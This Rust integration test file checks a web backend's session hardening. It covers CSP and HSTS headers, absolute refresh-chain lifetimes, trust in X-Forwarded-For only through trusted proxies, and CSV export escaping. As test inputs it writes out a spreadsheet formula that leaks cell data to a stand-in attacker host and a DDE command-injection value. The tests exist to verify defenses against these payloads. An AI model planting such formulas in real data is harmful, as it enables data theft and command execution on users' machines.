//! Browser-session hardening and proxies: security headers (CSP everywhere, HSTS only over TLS),
//! the absolute lifetime of a chain of refreshed sessions, client addresses only through
//! trusted proxies, and CSV cells a spreadsheet will not run.

use auth::session_token::{SessionClaims, SessionTokens};
use chrono::{DateTime, Duration, Utc};
use domain::Secret;
use domain::audit::{Actor, AuditAction, NewAuditEvent};
use domain::session::SessionChain;
use domain::tenant::Tenant;
use domain::user::{Role, User};
use persistence::ClientInfo;
use persistence::testing::scope_of;
use reqwest::Method;
use serde_json::{Value, json};

use crate::support::{Backend, Spawn, TEST_SECRET_KEY, TestApp, expect_problem, on_both_databases, spawn};

on_both_databases!(
    a_refresh_chain_keeps_its_start_and_ends_at_the_absolute_lifetime,
    an_absolute_lifetime_shorter_than_a_session_caps_the_first_one,
    forwarded_addresses_count_only_through_trusted_proxies,
    audit_csv_cells_are_never_formulas,
);

const APP_CSP: &str = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; \
    img-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; \
    form-action 'self'";

async fn get_with(app: &TestApp, path: &str, headers: &[(&str, &str)]) -> reqwest::Response {
    let mut request = app.client.get(format!("{}{path}", app.address));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    request.send().await.unwrap()
}

fn header<'r>(response: &'r reqwest::Response, name: &str) -> Option<&'r str> {
    response.headers().get(name).map(|v| v.to_str().unwrap())
}

#[tokio::test]
async fn every_response_carries_a_content_security_policy() {
    let app = spawn(Spawn::default()).await;
    // The app shell, an API answer, a problem and an asset all get the app's policy.
    for path in ["/", "/prompts/x", "/healthz", "/api/v1/nothing-here", "/app.js"] {
        let response = app.get(path).await;
        assert_eq!(header(&response, "content-security-policy"), Some(APP_CSP), "{path}");
        assert_eq!(header(&response, "x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(header(&response, "x-content-type-options"), Some("nosniff"), "{path}");
        assert_eq!(header(&response, "referrer-policy"), Some("no-referrer"), "{path}");
        // Plain HTTP: no HSTS (browsers ignore it there, and it would pin a dev server).
        assert_eq!(header(&response, "strict-transport-security"), None, "{path}");
    }
    // The Swagger UI gets its own policy: inline styles and data: icons, still no inline script.
    for path in ["/api/docs/", "/api/docs/swagger-ui.css"] {
        let response = app.get(path).await;
        assert_eq!(response.status(), 200, "{path}");
        let policy = header(&response, "content-security-policy").unwrap();
        assert!(
            policy.contains("style-src 'self' 'unsafe-inline'") && policy.contains("img-src 'self' data:")
        );
        assert!(
            policy.contains("script-src 'self';") && policy.contains("frame-ancestors 'none'"),
            "{policy}"
        );
    }
}

#[tokio::test]
async fn hsts_is_sent_only_when_a_trusted_proxy_says_tls() {
    let https = [("X-Forwarded-Proto", "https")];
    // Nobody is trusted by default: a client claiming TLS gets no HSTS.
    let app = spawn(Spawn::default()).await;
    assert_eq!(header(&get_with(&app, "/healthz", &https).await, "strict-transport-security"), None);

    // A proxy that is not the peer does not count either.
    let elsewhere = spawn(Spawn { vars: vec![("TRUSTED_PROXIES", "10.0.0.0/8")], ..Spawn::default() }).await;
    assert_eq!(header(&get_with(&elsewhere, "/healthz", &https).await, "strict-transport-security"), None);

    // Behind a trusted proxy (the test client's loopback address) that terminated TLS: HSTS.
    let proxied =
        spawn(Spawn { vars: vec![("TRUSTED_PROXIES", "127.0.0.1, ::1")], ..Spawn::default() }).await;
    for path in ["/", "/healthz", "/api/docs/"] {
        let response = get_with(&proxied, path, &https).await;
        assert_eq!(
            header(&response, "strict-transport-security"),
            Some("max-age=63072000; includeSubDomains"),
            "{path}"
        );
    }
    let plain = get_with(&proxied, "/healthz", &[("X-Forwarded-Proto", "http")]).await;
    assert_eq!(header(&plain, "strict-transport-security"), None);
    assert_eq!(header(&proxied.get("/healthz").await, "strict-transport-security"), None);
}

/// A session stored directly, as if its chain had begun at `chain_started_at`.
async fn session_in_chain(
    app: &TestApp,
    tenant: &Tenant,
    user: &User,
    chain_started_at: DateTime<Utc>,
    expires_at: DateTime<Utc>,
) -> String {
    let now = Utc::now();
    let repo = app.db.database().tenant(scope_of(tenant));
    let session = repo
        .create_session_in_chain(
            user.id,
            expires_at,
            SessionChain { started_at: chain_started_at, sso_protocol: None },
            &ClientInfo::default(),
            now,
        )
        .await
        .unwrap();
    let claims = SessionClaims::new(user.id, tenant.id, user.role, session.id, now, expires_at);
    SessionTokens::new(&Secret::new(TEST_SECRET_KEY.to_owned())).unwrap().sign(&claims).unwrap()
}

fn expires_at(body: &Value) -> DateTime<Utc> {
    body["expires_at"].as_str().unwrap().parse().unwrap()
}

async fn refresh(app: &TestApp, token: &str) -> reqwest::Response {
    app.call(Method::POST, "/api/v1/auth/refresh", Some(token), None).await
}

async fn chain_start_of(app: &TestApp, tenant: &Tenant, token: &str) -> DateTime<Utc> {
    let claims = SessionTokens::new(&Secret::new(TEST_SECRET_KEY.to_owned())).unwrap().verify(token).unwrap();
    let repo = app.db.database().tenant(scope_of(tenant));
    repo.session(claims.jti).await.unwrap().unwrap().chain_started_at
}

async fn a_refresh_chain_keeps_its_start_and_ends_at_the_absolute_lifetime(backend: Backend) {
    let app = spawn(Spawn {
        backend,
        vars: vec![("SESSION_LIFETIME_MINUTES", "5"), ("SESSION_ABSOLUTE_LIFETIME", "1h")],
        ..Spawn::default()
    })
    .await;
    let acme = app.tenant("acme").await;
    let alice = app.user(&acme, "alice@acme.test", Role::User, "correct horse").await;

    // Early in a chain, each refresh gives a full lifetime and carries the chain's start.
    let signed_in = app.token_for("acme", "alice@acme.test", "correct horse").await;
    let started = chain_start_of(&app, &acme, &signed_in).await;
    let first = refresh(&app, &signed_in).await;
    assert_eq!(first.status(), 200);
    let first: Value = first.json().await.unwrap();
    let before_second = Utc::now();
    let second: Value = refresh(&app, first["token"].as_str().unwrap()).await.json().await.unwrap();
    assert!(expires_at(&second) >= before_second + Duration::minutes(5) - Duration::seconds(1));
    let token = second["token"].as_str().unwrap();
    assert_eq!(chain_start_of(&app, &acme, token).await, started, "the chain keeps its sign-in time");

    // 58 minutes into its chain, a session refreshes only up to the chain's deadline…
    let chain_start = Utc::now() - Duration::minutes(58);
    let late = session_in_chain(&app, &acme, &alice, chain_start, Utc::now() + Duration::minutes(1)).await;
    let capped = refresh(&app, &late).await;
    assert_eq!(capped.status(), 200);
    let capped: Value = capped.json().await.unwrap();
    let deadline = chain_start + Duration::hours(1);
    assert!((expires_at(&capped) - deadline).num_seconds().abs() <= 1, "{capped}");
    let last = capped["token"].as_str().unwrap();
    assert_eq!(app.get_as("/api/v1/auth/me", last).await.status(), 200);
    // …and a session ending there cannot be refreshed again: sign in anew.
    let refused = expect_problem(refresh(&app, last).await, 401, "session_expired").await;
    assert!(refused["detail"].as_str().unwrap().contains("Sign in again"), "{refused}");
    // The refused refresh did not end the session early.
    assert_eq!(app.get_as("/api/v1/auth/me", last).await.status(), 200);

    // A chain past its deadline (say the setting was lowered) is refused outright.
    let old_chain = Utc::now() - Duration::hours(2);
    let stale = session_in_chain(&app, &acme, &alice, old_chain, Utc::now() + Duration::minutes(3)).await;
    expect_problem(refresh(&app, &stale).await, 401, "session_expired").await;

    // A token that was already rotated cannot start a second branch of its chain.
    expect_problem(refresh(&app, &signed_in).await, 401, "unauthorized").await;
}

async fn an_absolute_lifetime_shorter_than_a_session_caps_the_first_one(backend: Backend) {
    let app =
        spawn(Spawn { backend, vars: vec![("SESSION_ABSOLUTE_LIFETIME", "2s")], ..Spawn::default() }).await;
    let acme = app.tenant("acme").await;
    app.user(&acme, "alice@acme.test", Role::User, "correct horse").await;
    let before = Utc::now();
    let response = app.login("acme", "alice@acme.test", "correct horse").await;
    assert_eq!(response.status(), 200);
    let body: Value = response.json().await.unwrap();
    let after = Utc::now();
    let ends = expires_at(&body);
    assert!(ends > before && ends <= after + Duration::seconds(2), "{ends} vs sign-in at {before}..{after}");
    let token = body["token"].as_str().unwrap();
    expect_problem(refresh(&app, token).await, 401, "session_expired").await;
    // Past the deadline the session itself is over.
    tokio::time::sleep(
        (ends - Utc::now()).to_std().unwrap_or_default() + std::time::Duration::from_millis(200),
    )
    .await;
    expect_problem(app.get_as("/api/v1/auth/me", token).await, 401, "unauthorized").await;
}

/// The addresses recorded for failed sign-ins sent with these `X-Forwarded-For` values.
async fn recorded_addresses(trusted: &'static str, backend: Backend, forwarded: &[&str]) -> Vec<String> {
    let app = spawn(Spawn { backend, vars: vec![("TRUSTED_PROXIES", trusted)], ..Spawn::default() }).await;
    let acme = app.tenant("acme").await;
    app.user(&acme, "alice@acme.test", Role::User, "correct horse").await;
    for value in forwarded {
        let body = json!({ "tenant": "acme", "email": "alice@acme.test", "password": "wrong" });
        let response = app
            .client
            .post(format!("{}/api/v1/auth/login", app.address))
            .header("X-Forwarded-For", *value)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 401);
    }
    let events = app.db.database().tenant(scope_of(&acme)).list_audit(50).await.unwrap();
    let mut addrs: Vec<_> = events
        .iter()
        .filter(|e| e.action.as_str() == "auth.login_failed")
        .map(|e| e.client_addr.clone().unwrap())
        .collect();
    addrs.reverse();
    addrs
}

async fn forwarded_addresses_count_only_through_trusted_proxies(backend: Backend) {
    let spoofed = ["203.0.113.7", "198.51.100.1, 203.0.113.8"];
    // No trusted proxies (the default), or ones that are not the peer: the header is ignored.
    assert_eq!(recorded_addresses("", backend, &spoofed).await, ["127.0.0.1", "127.0.0.1"]);
    assert_eq!(recorded_addresses("10.0.0.0/8", backend, &spoofed).await, ["127.0.0.1", "127.0.0.1"]);
    // Behind a trusted proxy: the rightmost hop it did not vouch for; garbage → the proxy itself.
    let through_proxy = [
        "203.0.113.7",
        "198.51.100.1, 203.0.113.8",
        "203.0.113.9, 127.0.0.5",
        "=HYPERLINK(\"http://evil.example\")",
        "203.0.113.7, 999.1.1.1",
    ];
    assert_eq!(
        recorded_addresses("127.0.0.0/8", backend, &through_proxy).await,
        ["203.0.113.7", "203.0.113.8", "203.0.113.9", "127.0.0.1", "127.0.0.1"]
    );
}

async fn audit_csv_cells_are_never_formulas(backend: Backend) {
    let app = spawn(Spawn { backend, ..Spawn::default() }).await;
    let acme = app.tenant("acme").await;
    let admin = app.user(&acme, "admin@acme.test", Role::Admin, "pw-admin-1").await;
    // Rows as an older server may have written them (client addresses were free text then).
    let hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    let event = NewAuditEvent {
        actor: Actor::System,
        action: AuditAction::LoginFailed,
        target_type: "user",
        target_id: Some("+1+cmd|' /C calc'!A0".to_owned()),
        details: json!({ "email": "=1+1" }),
        client_addr: Some(hostile.to_owned()),
        at: Utc::now(),
    };
    app.db.database().tenant(scope_of(&acme)).record_audit(event).await.unwrap();

    let token = app.session_token(&acme, &admin).await;
    let response = app.get_as("/api/v1/audit-events/export?action=auth.login_failed", &token).await;
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{text}");
    assert_eq!(&rows[0][column("client_addr")], format!("'{hostile}"));
    assert_eq!(&rows[0][column("target_id")], "'+1+cmd|' /C calc'!A0");
    // JSON details start with `{`: not a formula, left as they are.
    assert_eq!(&rows[0][column("details")], r#"{"email":"=1+1"}"#);
    assert!(!rows[0][column("created_at")].starts_with('\''));
}
